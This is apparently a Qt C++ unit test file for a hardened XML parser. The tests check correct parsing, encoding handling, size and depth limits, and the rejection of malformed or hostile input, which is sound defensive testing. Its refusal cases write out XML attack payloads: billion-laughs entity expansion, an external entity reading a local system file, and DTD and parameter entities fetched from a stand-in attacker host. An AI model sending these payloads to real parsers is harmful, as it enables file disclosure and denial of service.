// SPDX-FileCopyrightText: 2026 The Campanella contributors
// SPDX-License-Identifier: EUPL-1.2

#include "backend/outbound/strictxml.h"

#include <QTest>

using namespace campanella;
using namespace campanella::backend;

class TestStrictXml : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void readsATree();
    void readsEncodings_data();
    void readsEncodings();
    void refuses_data();
    void refuses();
    void keepsTheLimits_data();
    void keepsTheLimits();
    void takesTextAroundComments();
    void wantsOneChild();
};

void TestStrictXml::readsATree() {
    const Result<XmlElement> root = readStrictXml(
        R"(<?xml version="1.0"?><a xmlns="urn:x" p="1"><b>due &amp; tre</b><c xmlns="">x</c></a>)");
    QVERIFY(root);
    QCOMPARE(root->space, QStringLiteral("urn:x"));
    QCOMPARE(root->name, QStringLiteral("a"));
    QCOMPARE(root->attributes.value(QStringLiteral("p")), QStringLiteral("1"));
    QCOMPARE(*root->textOf(u"urn:x", u"b"), QStringLiteral("due & tre"));
    QCOMPARE(*root->textOf({}, u"c"), QStringLiteral("x"));
    QCOMPARE(*root->textOf(u"urn:x", u"c"), QString());
}

void TestStrictXml::readsEncodings_data() {
    QTest::addColumn<QByteArray>("bytes");
    QTest::newRow("utf-8") << QByteArray("<a>Niccol\xC3\xB2</a>");
    QTest::newRow("utf-8 with mark") << QByteArray("\xEF\xBB\xBF<a>Niccol\xC3\xB2</a>");
    QTest::newRow("labelled utf-16, is utf-8")
        << QByteArray("<?xml version=\"1.0\" encoding=\"utf-16\"?><a>Niccol\xC3\xB2</a>");
    QTest::newRow("labelled nonsense")
        << QByteArray("<?xml version=\"1.0\" encoding=\"klingon\"?><a>Niccol\xC3\xB2</a>");
    const QString wide = QStringLiteral("<a>Niccol\u00F2</a>");
    const QByteArray little(reinterpret_cast<const char *>(wide.utf16()), wide.size() * 2);
    QTest::newRow("utf-16") << little;
    QTest::newRow("utf-16 with mark") << "\xFF\xFE" + little;
}

void TestStrictXml::readsEncodings() {
    QFETCH(QByteArray, bytes);
    const Result<XmlElement> root = readStrictXml(bytes);
    QVERIFY2(root, root ? "" : qPrintable(root.error().detail));
    QCOMPARE(root->text, QStringLiteral("Niccol\u00F2"));
}

void TestStrictXml::refuses_data() {
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("why");
    const auto row = [](const char *name, const QByteArray &bytes, const char *why) {
        QTest::newRow(name) << bytes << QString::fromLatin1(why);
    };
    QByteArray laughs = "<!DOCTYPE a [<!ENTITY l0 \"ah\">";
    for (int i = 1; i < 10; ++i) {
        const QByteArray before = "&l" + QByteArray::number(i - 1) + ";";
        laughs += "<!ENTITY l" + QByteArray::number(i) + " \"" + before.repeated(10) + "\">";
    }
    row("billion laughs", laughs + "]><a>&l9;</a>", "DOCTYPE");
    row("external entity", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>",
        "DOCTYPE");
    row("external subset", "<!DOCTYPE a SYSTEM \"http://attacker.example/a.dtd\"><a/>", "DOCTYPE");
    row("parameter entity",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://attacker.example/a\"> %x;]><a/>", "DOCTYPE");
    row("default attributes", "<!DOCTYPE a [<!ATTLIST a p CDATA \"1\">]><a/>", "DOCTYPE");
    row("unknown entity", "<a>&x;</a>", "not well-formed");
    row("processing instruction", "<?xml-stylesheet href=\"x\"?><a/>", "processing instruction");
    row("empty", "", "not well-formed");
    row("text", "ciao", "not well-formed");
    row("cut off", "<a><b></b>", "not well-formed");
    row("crossed", "<a><b></a></b>", "not well-formed");
    row("two roots", "<a/><b/>", "not well-formed");
    row("prefix of nobody", "<x:a/>", "not well-formed");
    row("attribute twice", "<a p='1' p='2'/>", "not well-formed");
    row("latin-1", "<a>Niccol\xF2</a>", "neither UTF-8 nor UTF-16");
    row("overlong utf-8", "<a>\xC0\xBC</a>", "neither UTF-8 nor UTF-16");
    row("NUL", QByteArray("<a>\0</a>", 8), "not well-formed");
}

void TestStrictXml::refuses() {
    QFETCH(QByteArray, bytes);
    QFETCH(QString, why);
    const Result<XmlElement> root = readStrictXml(bytes);
    QVERIFY(!root);
    QCOMPARE(root.error().code, FailureCode::GatewayAnswerInvalid);
    QVERIFY2(root.error().detail.contains(why), qPrintable(root.error().detail));
}

void TestStrictXml::keepsTheLimits_data() {
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<bool>("taken");
    const auto nested = [](int depth) {
        return QByteArray("<a>").repeated(depth) + QByteArray("</a>").repeated(depth);
    };
    const auto wide = [](int count) { return "<a>" + QByteArray("<b/>").repeated(count) + "</a>"; };
    QTest::newRow("size") << "<a>" + QByteArray(100'000, 'x') + "</a>" << false;
    QTest::newRow("deep enough") << nested(32) << true;
    QTest::newRow("too deep") << nested(33) << false;
    QTest::newRow("as many") << wide(1'999) << true;
    QTest::newRow("too many") << wide(2'000) << false;
}

void TestStrictXml::keepsTheLimits() {
    QFETCH(QByteArray, bytes);
    QFETCH(bool, taken);
    QCOMPARE(readStrictXml(bytes).has_value(), taken);
}

// Readers that stop at the comment would see another person.
void TestStrictXml::takesTextAroundComments() {
    const Result<XmlElement> root =
        readStrictXml("<a><b>uno<!-- due -->tre<![CDATA[<quattro>]]></b></a>");
    QVERIFY(root);
    QCOMPARE(*root->textOf({}, u"b"), QStringLiteral("unotre<quattro>"));
}

void TestStrictXml::wantsOneChild() {
    const Result<XmlElement> root =
        readStrictXml("<a><b>1</b><c/><c/><d><e/></d><f> lungo </f></a>");
    QVERIFY(root);
    QCOMPARE((*root->only({}, u"b"))->text, QStringLiteral("1"));
    QVERIFY(!root->only({}, u"c"));
    QVERIFY(!root->only({}, u"missing"));
    QVERIFY(!root->textOf({}, u"c"));
    QVERIFY(!root->textOf({}, u"d"));
    QVERIFY(!root->textOf({}, u"f", 6));
    QCOMPARE(*root->textOf({}, u"f", 7), QStringLiteral("lungo"));
}

QTEST_GUILESS_MAIN(TestStrictXml)
#include "tst_strictxml.moc"
